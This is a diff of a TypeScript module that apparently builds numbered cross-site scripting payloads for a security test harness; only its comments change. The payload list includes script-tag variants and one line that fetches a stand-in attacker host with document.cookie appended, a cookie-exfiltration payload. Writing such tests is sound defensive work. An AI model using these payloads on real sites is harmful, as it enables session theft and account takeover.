@@ -1,11 +1,11 @@
-/** What a payload calls when it runs, with its number; the browser of the attack listens. */
+/** The function that a payload calls with its number. PageMonitor records the call. */
 export const PAYLOAD_CALLBACK = "__xss";
-/** Where a payload would have the browser ask for something. */
+/** The host that a payload requests. */
 export const EXTERNAL_HOST = "xss.attack.invalid";
 
 const callbackCode = (id: number) => `${PAYLOAD_CALLBACK}(${id})`;
 
-/** Templates: `J` is the call. Each also leaves an element or attribute that no page of the studio has, should it get that far. */
+/** `J` is the call. As markup, each payload adds a tag or attribute that no studio page has. */
 const TEMPLATES: readonly string[] = [
   "<script>J</script>",
   "<ScRiPt>J</sCrIpT>",
@@ -177,7 +177,7 @@ const TEMPLATES: readonly string[] = [
   "<script>fetch('//E/?'+document.cookie)</script>",
 ];
 
-/** Every payload, numbered: the number comes back when it runs. None holds a NUL, which no database and no header takes. */
+/** Every payload, numbered in its call. Without NUL, which databases and headers reject. */
 export const XSS_PAYLOADS: readonly string[] = TEMPLATES.map((text, id) =>
   text.replaceAll("J", callbackCode(id)).replaceAll("//E/", `//${EXTERNAL_HOST}/`),
 );
